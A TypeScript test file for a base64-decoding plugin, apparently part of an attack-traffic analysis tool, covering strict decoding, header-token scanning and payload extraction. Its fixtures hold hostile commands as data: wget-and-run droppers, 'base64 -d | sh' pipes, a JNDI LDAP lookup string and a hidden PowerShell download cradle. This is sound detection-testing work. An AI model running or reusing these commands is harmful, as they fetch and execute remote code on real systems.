import { randomBytes } from 'node:crypto'
import fc from 'fast-check'
import { describe, expect, it } from 'vitest'
import { B64DecodeOptions, createB64DecodePlugin } from '../../src/plugins/decoders/b64-decode.js'
import { decodeBase64, decodeBase64Bytes, findBase64 } from '../../src/plugins/decoders/base64.js'
import { attackOf, runPlugin, subjectOf } from '../helpers/plugin-harness.js'

function b64(text: string, encoding: BufferEncoding = 'utf8'): string {
  return Buffer.from(text, encoding).toString('base64')
}

const plugin = createB64DecodePlugin(B64DecodeOptions.parse(undefined))

describe('decodeBase64', () => {
  it('decodes standard and URL-safe text, padded or not', () => {
    expect(decodeBase64('aGVsbG8=')?.toString()).toBe('hello')
    expect(decodeBase64('aGVsbG8')?.toString()).toBe('hello')
    expect(decodeBase64('+/+/')).toEqual(Buffer.from([0xfb, 0xff, 0xbf]))
    expect(decodeBase64('-_-_')).toEqual(Buffer.from([0xfb, 0xff, 0xbf]))
    expect(decodeBase64('-_8=')).toEqual(Buffer.from([0xfb, 0xff]))
    expect(decodeBase64('')).toEqual(Buffer.alloc(0))
  })

  it('follows the length and padding rules for every length 1..8 and 0..3 "="', () => {
    for (let chars = 1; chars <= 8; chars++) {
      for (let pads = 0; pads <= 3; pads++) {
        const text = 'A'.repeat(chars) + '='.repeat(pads)
        const valid = chars % 4 !== 1 && pads <= 2 && (pads === 0 || (chars + pads) % 4 === 0)
        expect(decodeBase64(text), text).toEqual(valid ? Buffer.alloc(Math.floor((chars * 3) / 4)) : null)
        // A last character with non-zero unused bits ("B" = 000001) is only valid when no bits are unused.
        const loose = 'A'.repeat(chars - 1) + 'B' + '='.repeat(pads)
        expect(decodeBase64(loose) !== null, loose).toBe(valid && chars % 4 === 0)
      }
    }
  })

  it('returns null where Buffer.from would invent bytes', () => {
    const bad = ['aGVs*G8=', 'aG=VsbG8', 'aGVsbG8=\u0000', 'aGVsbG8Ł', 'Ł', '=', '==', '====', 'a===', 'YQ===', 'ab+-', 'a/b_', 'aGVs bG8=', 'aGVsbG8=\n', '\u00c1\u00c1\u00c1\u00c1']
    for (const text of bad) expect(decodeBase64(text), JSON.stringify(text)).toBeNull()
    // What this module exists for: Buffer skips the "*" and decodes the rest.
    expect(Buffer.from('aGVs*G8=', 'base64').length).toBeGreaterThan(0)
  })

  it('honours the alphabet and whitespace options', () => {
    expect(decodeBase64('-_8=', { alphabet: 'standard' })).toBeNull()
    expect(decodeBase64('+/8=', { alphabet: 'url' })).toBeNull()
    expect(decodeBase64('+/8=', { alphabet: 'standard' })).toEqual(Buffer.from([0xfb, 0xff]))
    expect(decodeBase64('aGVs\r\nbG8=\n', { whitespace: 'ignore' })?.toString()).toBe('hello')
    expect(decodeBase64('aGVs\fbG8=', { whitespace: 'ignore' })).toBeNull()
    expect(decodeBase64Bytes(Buffer.from('aGk=\t', 'latin1'), { whitespace: 'ignore' })?.toString()).toBe('hi')
  })

  it('round-trips every byte array through Buffer encodings, padded and unpadded', () => {
    fc.assert(
      fc.property(fc.uint8Array({ maxLength: 300 }), (bytes) => {
        const data = Buffer.from(bytes)
        const standard = data.toString('base64')
        const url = data.toString('base64url')
        const padding = '='.repeat((4 - (url.length % 4)) % 4)
        expect(decodeBase64(standard)).toEqual(data)
        expect(decodeBase64(standard.replace(/=+$/, ''))).toEqual(data)
        expect(decodeBase64(url)).toEqual(data)
        expect(decodeBase64(url + padding)).toEqual(data)
        expect(decodeBase64(standard, { alphabet: 'standard' })).toEqual(data)
        expect(decodeBase64(url, { alphabet: 'url' })).toEqual(data)
      }),
      { numRuns: 500 },
    )
  })

  it('never throws, and agrees with Buffer whenever it accepts', () => {
    const unit = fc.constantFrom(...'ABCQgw019+/-_= \n*\u0000\u00e9'.split(''))
    for (const strings of [fc.string({ unit }), fc.string({ unit: 'binary' })]) {
      fc.assert(
        fc.property(strings, (text) => {
          const decoded = decodeBase64(text)
          if (decoded !== null) expect(decoded).toEqual(Buffer.from(text, 'base64'))
        }),
        { numRuns: 1000 },
      )
    }
  })
})

describe('findBase64', () => {
  const scan = { minRunChars: 24, maxCandidates: 100 }

  it('finds Basic, Negotiate and NTLM tokens in any case, and in response headers', () => {
    const request = [
      'GET /manager/html HTTP/1.1',
      'Host: 198.51.100.7:8080',
      `AUTHORIZATION: basic ${b64('tomcat:s3cret')}`,
      `proxy-authorization:Negotiate ${b64('NTLMSSP\u0000\u0001\u0000\u0000\u0000', 'latin1')}`,
      `Www-Authenticate: NTLM ${b64('NTLMSSP\u0000\u0002', 'latin1')}, Basic realm="x"`,
      'Authorization: Basicfoo YWJj',
      'X-Authorization: Basic YWJj',
      '',
      '',
    ].join('\r\n')
    const found = findBase64(Buffer.from(request, 'latin1'), scan)
    expect(found.map((c) => c.source)).toEqual(['basic-auth', 'negotiate', 'ntlm'])
    expect(found[0]?.decoded.toString()).toBe('tomcat:s3cret')
    expect(found[1]?.decoded.subarray(0, 8).toString('latin1')).toBe('NTLMSSP\u0000')
    expect(request.slice(found[0]?.offset, (found[0]?.offset ?? 0) + (found[0]?.length ?? 0))).toBe(b64('tomcat:s3cret'))
  })

  it('finds bare runs, wrapped runs and base64 at the end of a path', () => {
    const script = 'cd /tmp; wget http://203.0.113.9/x.sh; sh x.sh; rm -rf x.sh # pad pad pad'
    const wrapped = b64(script.repeat(2)).replace(/(.{64})/g, '$1\r\n')
    const jndi = `\${jndi:ldap://203.0.113.9:1389/Basic/Command/Base64/${b64(script)}}`
    const text = `echo ${b64(script)}|base64 -d|sh\n${jndi}\n-----BEGIN-----\r\n${wrapped}\r\n-----END-----\r\n`
    const found = findBase64(Buffer.from(text, 'latin1'), { ...scan, acceptRun: (d) => d.toString('latin1').includes('wget') })
    expect(found.map((c) => [c.source, c.decoded.toString()])).toEqual([
      ['run', script],
      ['run', script],
      ['run', script.repeat(2)],
    ])
  })

  it('does not join a wrapped line with a header line that follows it', () => {
    const token = b64('admin:admin')
    const text = `Cookie: ${'QUJD'.repeat(12)}\r\nAuthorization: Basic ${token}\r\n`
    const found = findBase64(Buffer.from(text, 'latin1'), scan)
    expect(found.map((c) => c.source)).toEqual(['run', 'basic-auth'])
  })

  it('skips short runs, rejected runs and invalid tokens, and stops at maxCandidates', () => {
    const data = Buffer.from(`short ${b64('abc')} Authorization: Basic ${'A'.repeat(40)} ${'QUFB'.repeat(10)}`, 'latin1')
    expect(findBase64(data, { ...scan, acceptRun: () => false })).toEqual([])
    const many = Buffer.from(Array.from({ length: 50 }, (_, i) => b64(`payload number ${i} here`)).join(' '), 'latin1')
    expect(findBase64(many, { ...scan, maxCandidates: 5 })).toHaveLength(5)
  })

  it('survives empty, tiny and 1 MiB random input quickly', () => {
    expect(findBase64(Buffer.alloc(0), scan)).toEqual([])
    expect(findBase64(Buffer.from('A'), scan)).toEqual([])
    expect(findBase64(Buffer.from('\n'), scan)).toEqual([])
    const random = randomBytes(1024 * 1024)
    const started = performance.now()
    findBase64(random, { minRunChars: 24, maxCandidates: 1_000_000 })
    // Every byte in the base64 alphabet: one giant run, decoded once plus at most a few slash suffixes.
    findBase64(Buffer.alloc(1024 * 1024, 'A/'), { minRunChars: 24, maxCandidates: 1_000_000, acceptRun: () => false })
    // 40,329 whole header lines, each decoded once; the cut last one ends in the invalid token "Y".
    expect(findBase64(Buffer.alloc(1024 * 1024, 'Authorization: Basic YWJj\n'), { minRunChars: 24, maxCandidates: 1_000_000 })).toHaveLength(40_329)
    expect(performance.now() - started).toBeLessThan(3000)
  })
})

describe('b64Decode plugin', () => {
  it('has strict options with defaults', () => {
    expect(B64DecodeOptions.parse(undefined)).toEqual({ minRunChars: 24, minBytes: 4, maxPayloads: 8, printableRatio: 0.9, binaryRuns: false })
    expect(() => B64DecodeOptions.parse({ maxPayload: 3 })).toThrow()
    expect(() => B64DecodeOptions.parse({ maxPayloads: 0 })).toThrow()
  })

  it('decodes an HTTP attack with Basic and Negotiate headers and a dropper run', async () => {
    const ntlm = Buffer.concat([Buffer.from('NTLMSSP\u0000\u0001\u0000\u0000\u0000', 'latin1'), Buffer.from([0x97, 0x82, 0x08, 0xe2]), Buffer.alloc(16)])
    const command = 'powershell -nop -w hidden -c "IEX(New-Object Net.WebClient).DownloadString(\'http://203.0.113.9/a\')"'
    const attack = attackOf(
      [
        `POST /cgi-bin/luci HTTP/1.1`,
        `Host: 198.18.0.1`,
        `Authorization: Basic ${b64('admin:hunter2:x')}`,
        `Proxy-Authorization: Negotiate ${ntlm.toString('base64')}`,
        ``,
        `cmd=powershell -enc ${b64(command, 'utf16le')}&x=${'AAAA'.repeat(20)}&h=${'0123456789abcdef'.repeat(4)}`,
      ].join('\r\n'),
    )
    const collected = await runPlugin(plugin, subjectOf(attack))
    expect(collected.payloads.map((p) => p.origin)).toEqual(['b64Decode:basic-auth', 'b64Decode:negotiate', 'b64Decode:run'])
    expect(collected.payloads[0]?.data.toString()).toBe('admin:hunter2:x')
    expect(collected.payloads[1]?.data).toEqual(ntlm)
    expect(collected.payloads[2]?.data.toString('utf16le')).toBe(command)
    expect(collected.artifacts).toEqual([{ kind: 'decoded', info: { scheme: 'basic', user: 'admin', password: 'hunter2:x', truncated: false } }])
  })

  it('records a Basic token without a colon, repeats once, and cuts huge credentials', async () => {
    const header = `Authorization: Basic ${b64('root')}\r\n`
    const big = `Authorization: Basic ${b64(`${'u'.repeat(2000)}:pw`)}\r\n`
    const collected = await runPlugin(plugin, subjectOf(attackOf(header + header + big)))
    expect(collected.payloads.map((p) => p.data.length)).toEqual([4, 2003])
    expect(collected.artifacts.map((a) => a.info)).toEqual([
      { scheme: 'basic', user: 'root', password: null, truncated: false },
      { scheme: 'basic', user: 'u'.repeat(1024), password: 'pw', truncated: true },
    ])
  })

  it('yields binary runs only with binaryRuns, and recognised formats always', async () => {
    const elf = Buffer.concat([Buffer.from('\u007fELF\u0002\u0001\u0001', 'latin1'), randomBytes(64)])
    const noise = randomBytes(48)
    const attack = attackOf(`echo ${elf.toString('base64')} | base64 -d > /tmp/.x; echo ${noise.toString('base64')}`)
    const strict = await runPlugin(plugin, subjectOf(attack))
    expect(strict.payloads.map((p) => p.data)).toEqual([elf])
    const loose = await runPlugin(createB64DecodePlugin(B64DecodeOptions.parse({ binaryRuns: true })), subjectOf(attack))
    expect(loose.payloads.map((p) => p.data)).toEqual([elf, noise])
  })

  it('caps the payloads of one subject and ignores tiny results', async () => {
    const runs = Array.from({ length: 20 }, (_, i) => `echo ${b64(`wget http://203.0.113.${i}/bot -O- | sh`)} | base64 -d | sh`)
    const collected = await runPlugin(plugin, subjectOf(attackOf(runs.join('\n'))))
    expect(collected.payloads).toHaveLength(8)
    expect(new Set(collected.payloads.map((p) => p.data.toString())).size).toBe(8)
    const tiny = await runPlugin(createB64DecodePlugin(B64DecodeOptions.parse({ minBytes: 5 })), subjectOf(attackOf(`Authorization: Basic ${b64('a:b')}\r\n`)))
    expect(tiny.payloads).toEqual([])
    expect(tiny.artifacts).toHaveLength(1)
  })

  it('yields at most maxPayloads from random and empty subjects', async () => {
    for (const data of [Buffer.alloc(0), Buffer.from([0x41]), randomBytes(1024 * 1024)]) {
      const collected = await runPlugin(plugin, subjectOf(attackOf(data)))
      expect(collected.payloads.length).toBeLessThanOrEqual(8)
      for (const p of collected.payloads) expect(p.data.equals(data)).toBe(false)
    }
  })
})
